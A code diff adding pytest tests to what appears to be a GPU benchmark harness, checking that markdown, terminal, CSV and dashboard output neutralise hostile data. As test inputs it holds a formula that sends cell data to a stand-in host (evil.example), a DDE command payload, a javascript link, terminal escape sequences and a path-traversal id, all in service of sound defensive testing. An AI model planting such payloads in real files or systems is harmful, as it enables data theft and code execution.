@@ -321,3 +321,203 @@ def test_a_trusted_ingest_outside_the_checkout_names_the_manifest_and_the_flag(t
     stored = ingest("--cases", str(manifest))
     assert stored.returncode == 0, stored.stderr
     assert (elsewhere / "h.sqlite").exists()
+
+
+# ---- impossible timestamps (issue 33 item 17) ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "stamp", ["2026-13-45T99:99:99Z", "2026-02-30T10:00:00Z", "2026-12-01T23:59:60Z"]
+)
+@pytest.mark.parametrize("field", ["started_utc", "finished_utc"])
+def test_an_impossible_timestamp_is_refused_naming_the_field(checkout, field, stamp):
+    document = small_run(0, suite_gpu="NVIDIA H200")
+    suite_manifest(checkout / "benchmarks", document)
+    document[field] = stamp
+    (checkout / "run.json").write_bytes(orjson.dumps(document))
+    done = CliRunner().invoke(
+        main, ["ingest", "run.json", "--db", "h.sqlite", "--trusted"], catch_exceptions=True
+    )
+    assert done.exit_code == 2 and done.exc_info[0] is SystemExit, done.output  # no traceback
+    assert f"at {field}: '{stamp}' is not a 'date-time'" in done.stderr, done.stderr
+    if (checkout / "h.sqlite").exists():
+        with sqlite3.connect(checkout / "h.sqlite") as db:
+            assert db.execute("SELECT count(*) FROM runs").fetchone() == (0,)
+
+
+def test_a_real_timestamp_still_passes():
+    from protocol.validation import is_date_time
+
+    assert is_date_time("2024-02-29T23:59:59.123456789Z") and not is_date_time("2026-02-29T00:00Z")
+
+
+# ---- explain renders the data inert; no autolink anywhere (issue 33 items 18, 19) ----------------
+
+URL = "http://evil.example/login"
+LINKS = f"{URL} www.evil.example me@evil.example"
+_LIVE_LINK = re.compile(
+    r"(?i)(?<!\\)(?:https?|ftp|mailto|xmpp):|(?<!\\)www\.|[\w.+-]@[\w-]+\.[a-z]"
+)  # what GFM's autolink extension links: an unescaped scheme colon, www. or an address
+
+
+_CODE_SPAN = re.compile(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)")  # literal: never linked
+
+
+def assert_no_autolinks(text: str, name: str) -> None:
+    found = _LIVE_LINK.search(_CODE_SPAN.sub("", text))
+    assert found is None, (name, found.string[max(0, found.start() - 60) : found.end() + 60])
+
+
+def explain_document(tmp_path) -> tuple:
+    """The recorded WarpForth run with hostile names, device and static-analysis reasons."""
+    doc = orjson.loads((ROOT / "tests/fixtures/result-1.2.0-h200-warpforth.json").read_bytes())
+    case = doc["cases"][0]
+    case["id"] = f"{HTML}{ESCAPE} {LINKS}"
+    impls = case["implementations"]
+    impls[f"{LINK} {URL}"] = impls.pop("warpforth")
+    for impl in impls.values():
+        impl["static"] = {"status": "unavailable", "reason": f"{HTML} {LINK} {LINKS}{ESCAPE}"}
+    doc["environment"]["device"]["name"] = f"NVIDIA H200 {URL}"
+    path = tmp_path / "explain.json"
+    path.write_bytes(orjson.dumps(doc))
+    return path, case["id"]
+
+
+def test_explain_escapes_html_links_and_escapes_from_the_data(tmp_path):
+    path, case_id = explain_document(tmp_path)
+    text_out = invoke("explain", path, "--format", "text", "--case", case_id)
+    markdown_out = invoke("explain", path, "--case", case_id)
+    assert markdown_out.exit_code == 0 and text_out.exit_code == 0, markdown_out.output
+    markdown = markdown_out.stdout
+    assert_inert_markdown(markdown)
+    assert_no_autolinks(markdown, "explain")
+    assert "&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;" in markdown  # shown, not linked
+    assert "http\\://evil.example/login" in markdown  # the same text on screen
+    text = text_out.stdout
+    assert "\x1b" not in text and "\x07" not in text and "\\x1b[2J" in text
+    assert HTML in text  # a terminal shows the data as it is, markup included
+
+
+def test_no_markdown_output_carries_a_live_link_from_the_data(tmp_path):
+    documents = []
+    for k in range(6):
+        doc = hostile_document(k, factor=1.3 if k == 5 else 1.0)
+        doc["suite"]["name"] = f"suite {LINKS}"
+        doc["environment"]["device"]["name"] = f"NVIDIA H200 {URL}"
+        for case in doc["cases"]:
+            case["id"] = f"{case['id']} {LINKS}"
+            if case.get("error"):
+                case["error"]["message"] = f"see {LINKS}"
+        documents.append(doc)
+    for k, document in enumerate(documents[:2]):
+        (tmp_path / f"{k}.json").write_bytes(orjson.dumps(document))
+    outputs = {
+        "summary": invoke("summary", tmp_path / "0.json").stdout,
+        "compare": invoke("compare", tmp_path / "0.json", tmp_path / "1.json").stdout,
+    }
+    for name in ("markdown", "nvbench-markdown"):
+        outputs[name] = invoke("export", "--format", name, tmp_path / "0.json").stdout
+    with Store(tmp_path / "h.sqlite") as store:
+        for document in documents:
+            store.ingest(document, trusted=True)
+    outputs["regressions"] = invoke(
+        "regressions", "--db", tmp_path / "h.sqlite", "--fail-on", "never"
+    ).stdout
+    for name, text in outputs.items():
+        assert "evil.example" in text, name  # the names are there...
+        assert_no_autolinks(text, name)  # ...but link nowhere
+
+
+def test_autolink_breaking_keeps_what_is_shown():
+    from harness.escaping import markdown
+
+    assert markdown(URL) == "http\\://evil.example/login"
+    assert markdown("www.evil.example") == "www\\.evil.example"
+    assert markdown("me@evil.example") == "me@&#8203;evil.example"  # zero-width space
+    assert markdown("axpy@head") == "axpy@head"  # a revision label is no address
+    assert markdown(URL, code=True) == f"`{URL}`"  # a code span is never linked
+
+
+def test_history_series_errors_show_escape_sequences_visibly(tmp_path):
+    db = tmp_path / "h.sqlite"
+    with Store(db) as store:
+        store.ingest(hostile_document(0), trusted=True)
+    done = invoke("history", "--db", db, "--series", f"nothing{ESCAPE}")
+    assert done.exit_code == 2 and "no such series" in done.stderr
+    assert "\x1b" not in done.stderr and "\x07" not in done.stderr and BIDI not in done.stderr
+    assert "nothing\\x1b[2J\\x1b]0;owned\\x07" in done.stderr
+
+
+# ---- CSV cells a spreadsheet would run as formulas (issue 33 item 21) ----------------------------
+
+
+def test_csv_export_neutralises_formulas_in_text_cells_and_keeps_numbers(tmp_path):
+    import csv
+    import io
+
+    formulas = [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+    ]
+    document = make_document(
+        {
+            name: {"cuda": samples(1e-3, seed=k), "ptx": samples(1.2e-3, seed=9)}
+            for k, name in enumerate(formulas)
+        }
+    )
+    path = tmp_path / "run.json"
+    path.write_bytes(orjson.dumps(document))
+    done = invoke("export", "--format", "csv", path)
+    assert done.exit_code == 0, done.output
+    rows = list(csv.DictReader(io.StringIO(done.stdout)))
+    assert {r["case"] for r in rows} == {f"'{name}" for name in formulas}  # text, shown whole
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+        assert float(row["median_s"]) > 0 and float(row["gap"] or 1) > 0  # numbers stay numbers
+
+
+# ---- dashboard file names from case ids (issue 33 item 22) ---------------------------------------
+
+
+def test_long_and_colliding_case_ids_get_their_own_explain_pages(tmp_path):
+    from harness.dashboard import build_site
+    from harness.dashboard.explain_pages import file_stem
+
+    ids = ["a/b", "a_b", "x" * 400, "x" * 400 + "y", "../../etc/passwd", "."]
+    document = make_document(
+        {
+            case_id: {"cuda": samples(1e-3, seed=k), "ptx": samples(1.2e-3, seed=50 + k)}
+            for k, case_id in enumerate(ids)
+        }
+    )
+    db = tmp_path / "h.sqlite"
+    with Store(db) as store:
+        assert store.ingest(document, trusted=True).stored
+    out = tmp_path / "site"
+    build_site(db, out)  # a 400-character id used to fail with `File name too long`
+    pages = sorted((out / "explain").glob("*.html"))
+    assert len(pages) == len(ids) and len({file_stem(i) for i in ids}) == len(ids)
+    for case_id in ids:
+        stem = file_stem(case_id)
+        assert len(stem) < 80 and "/" not in stem and not stem.startswith(".")
+        page = (out / "explain" / f"{stem}.html").read_text()
+        assert f"{case_id}: ptx vs cuda (baseline)" in page  # its own case, not the other one
+    assert file_stem("axpy_f64").startswith("axpy_f64-")  # readable
+
+
+# ---- a FIFO or device as a result document ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("command", [["summary"], ["explain"], ["ingest", "--db", "h.sqlite"]])
+def test_a_fifo_or_device_as_a_result_document_is_refused_at_once(tmp_path, monkeypatch, command):
+    import os
+
+    monkeypatch.chdir(tmp_path)
+    os.mkfifo(tmp_path / "run.json")
+    for path, kind in ((tmp_path / "run.json", "a FIFO"), ("/dev/zero", "a character device")):
+        done = CliRunner().invoke(main, [command[0], str(path), *command[1:]])
+        assert done.exit_code == 2 and done.exc_info[0] is SystemExit, done.output
+        assert f"must be a regular file, not {kind}" in done.stderr, done.stderr
